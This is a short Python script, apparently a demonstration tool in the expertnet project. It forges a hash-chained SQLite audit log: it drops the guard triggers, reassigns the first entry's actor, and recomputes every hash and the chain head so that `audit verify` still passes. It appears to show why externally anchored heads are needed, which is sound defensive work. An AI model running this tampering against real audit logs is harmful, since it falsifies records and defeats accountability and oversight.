#!/usr/bin/env python3
"""Rewrite an expertnet access log at rest, the way an attacker who holds
the database would: drop the guard triggers, give the first entry another
actor, and compute every hash from there on and the head afresh, by the
format in docs/audit.md. The result passes `audit verify`; only heads
anchored elsewhere show the rewrite. Usage: audit_rewrite.py DB"""
import hashlib
import sqlite3
import struct
import sys

db = sqlite3.connect(sys.argv[1])
for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name LIKE 'audit%'").fetchall():
    db.execute(f"DROP TRIGGER {name}")
db.execute("UPDATE audit SET actor = 'iemand-anders' WHERE seq = (SELECT min(seq) FROM audit)")
(anchor,) = db.execute("SELECT anchor_hash FROM audit_chain").fetchone()
prev = bytes.fromhex(anchor)
rows = db.execute("SELECT seq, at, event, case_id, actor, on_behalf, action, outcome, detail FROM audit ORDER BY seq").fetchall()
for row in rows:
    h = hashlib.blake2b(digest_size=32)
    h.update(prev + b"enaudit1" + struct.pack(">QQ", row[0], row[1] & (2**64 - 1)))
    for field in row[2:]:
        if field is None:
            h.update(b"\x00")
        else:
            data = field.encode()
            h.update(b"\x01" + struct.pack(">Q", len(data)) + data)
    prev = h.digest()
    db.execute("UPDATE audit SET hash = ? WHERE seq = ?", (prev.hex(), row[0]))
db.execute("UPDATE audit_chain SET head_seq = ?, head_hash = ?", (rows[-1][0], prev.hex()))
db.commit()
